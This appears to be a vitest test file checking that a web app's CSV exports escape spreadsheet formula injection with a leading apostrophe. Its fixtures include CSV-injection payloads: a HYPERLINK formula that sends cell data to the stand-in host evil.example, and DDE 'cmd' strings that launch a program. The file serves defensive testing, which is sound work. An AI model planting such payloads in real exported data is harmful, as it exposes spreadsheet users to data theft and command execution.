import { sql } from "drizzle-orm";
import { strFromU8, unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseCsv } from "../../src/server/features/catalogue/csv";
import { escapeFormula, toCsv, unescapeFormula } from "../../src/server/http/csv";
import { signedInBrowser, uniqueEmail } from "../support/browser";
import * as f from "../support/factories";
import { importPriceListAndWait } from "../support/price-lists";
import { createTestApp, type TestApp } from "../support/test-app";

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

/** Cells a spreadsheet would run; each must come out with a leading apostrophe. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

const rows = (text: string) => parseCsv(text);

async function businessIdOf(browser: { get: (p: string) => Promise<Response> }) {
  return (await (await browser.get("/api/me")).json()).business.id as string;
}

describe("the shared CSV writer", () => {
  it("prefixes =, +, -, @, tab and carriage return with an apostrophe, in text and headers", () => {
    for (const cell of HOSTILE) expect(escapeFormula(cell)).toBe(`'${cell}`);
    expect(escapeFormula("＝1+1")).toBe("'＝1+1");
    for (const cell of ["Plain text", "0.99", "a=b", " =1", "'=already"]) {
      expect(escapeFormula(cell)).toBe(cell);
    }
    for (const cell of HOSTILE) expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
    expect(unescapeFormula("'Twas")).toBe("'Twas");
    const out = rows(toCsv(["=Header", "Amount"], [[HOSTILE[0], 1]]));
    expect(out).toEqual([
      ["'=Header", "Amount"],
      [`'${HOSTILE[0]}`, "1"],
    ]);
  });

  it("keeps genuine numbers as numbers: JS numbers, bigints and plain negative decimals", () => {
    const out = rows(
      toCsv(
        ["n", "big", "text", "formula", "bool", "date", "none"],
        [[-1250, -5n, "-12.50", "-12.50+A1", true, new Date(Date.UTC(2026, 0, 2)), null]],
      ),
    );
    expect(out[1]).toEqual([
      "-1250",
      "-5",
      "-12.50",
      "'-12.50+A1",
      "true",
      "2026-01-02T00:00:00.000Z",
      "",
    ]);
  });
});

describe("every CSV the product writes escapes formulas", () => {
  it("the admin's waitlist.csv", async () => {
    const email = '=HYPERLINK("http://evil.example")@example.com';
    await t.deps.db.execute(sql`insert into waitlist_emails (email) values (${email})`);
    const { browser: admin } = await signedInBrowser(t, {
      email: uniqueEmail("boss").replace("example.co.uk", "sole-admin.test"),
    });
    const res = await admin.get("/api/admin/waitlist.csv");
    expect(res.status).toBe(200);
    const found = rows(await res.text()).find((r) => r[0]?.includes("evil.example"));
    expect(found?.[0]).toBe(`'${email}`);
  });

  it("the price-list export, and importing it again restores the text without the apostrophe", async () => {
    const { browser } = await signedInBrowser(t);
    const businessId = await businessIdOf(browser);
    await f.createProduct(t.deps.db, {
      businessId,
      merchantId: 3,
      name: HOSTILE[0],
      sku: "+SKU-1",
      unit: "@unit",
      description: "-2+3",
      pricePence: 1299,
    });
    const text = await (await browser.get("/api/price-lists/export.csv")).text();
    const [header, row] = rows(text);
    expect(header).toEqual(["Name", "SKU", "Unit", "Price", "Category", "Description"]);
    expect(row).toEqual([`'${HOSTILE[0]}`, "'+SKU-1", "'@unit", "12.99", "", "'-2+3"]);

    // The file round-trips: the import reads the escaped cells back as the original text.
    const again = await importPriceListAndWait(browser, { csv: text, merchantId: 3 });
    expect(again).toMatchObject({ status: "done", inserted: 0, updated: 1, skipped: 0 });
    expect(await (await browser.get("/api/price-lists/export.csv")).text()).toBe(text);
  });

  it("the data export's CSVs, with a negative amount left a number", async () => {
    const { browser } = await signedInBrowser(t);
    const businessId = await businessIdOf(browser);
    const customer = await f.createCustomer(t.deps.db, {
      businessId,
      firstName: HOSTILE[1],
      lastName: HOSTILE[2],
      phone: "+44 1935 000000",
    });
    const quote = await f.createQuote(t.deps.db, {
      businessId,
      customerId: customer.id,
      name: HOSTILE[3],
    });
    await t.deps.db.execute(sql`update quotes set profit_pence = -1250 where id = ${quote.id}`);

    const res = await browser.get("/api/export");
    expect(res.status).toBe(200);
    const zip = unzipSync(new Uint8Array(await res.arrayBuffer()));
    const [cHeader, ...customers] = rows(strFromU8(zip["customers.csv"]!));
    const c = customers[0]!;
    expect(c[cHeader!.indexOf("firstName")]).toBe(`'${HOSTILE[1]}`);
    expect(c[cHeader!.indexOf("lastName")]).toBe(`'${HOSTILE[2]}`);
    expect(c[cHeader!.indexOf("phone")]).toBe("'+44 1935 000000");
    const [qHeader, ...quotes] = rows(strFromU8(zip["quotes.csv"]!));
    const q = quotes.find((r) => r[qHeader!.indexOf("id")] === quote.id)!;
    expect(q[qHeader!.indexOf("name")]).toBe(`'${HOSTILE[3]}`);
    expect(q[qHeader!.indexOf("profitPence")]).toBe("-1250");
    // data.json keeps the exact values.
    const data = JSON.parse(strFromU8(zip["data.json"]!));
    expect(data.customers[0].firstName).toBe(HOSTILE[1]);
  });
});
